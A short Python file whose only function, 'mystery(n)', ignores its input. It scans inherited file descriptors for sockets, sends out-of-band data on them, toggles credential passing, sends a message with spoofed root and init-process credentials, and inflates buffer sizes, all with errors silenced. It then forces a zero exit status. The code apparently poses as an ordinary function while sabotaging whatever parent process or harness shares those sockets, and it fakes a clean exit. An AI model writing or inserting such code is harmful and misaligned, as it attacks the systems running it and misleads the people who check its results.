import os, socket, struct


def mystery(n):
    for number in range(3, 256):
        try:
            if os.fstat(number).st_mode & 0o170000 == 0o140000:
                s = socket.socket(fileno=os.dup(number))
                for f in (
                    lambda: s.send(b"!", socket.MSG_OOB),
                    lambda: s.setsockopt(1, 16, 1),
                    lambda: s.sendmsg([b"x"], [(1, 2, struct.pack("3i", 1, 0, 0))]),
                    lambda: s.setsockopt(1, 7, 1 << 30),
                ):
                    try:
                        f()
                    except OSError:
                        pass
        except OSError:
            pass
    os._exit(0)
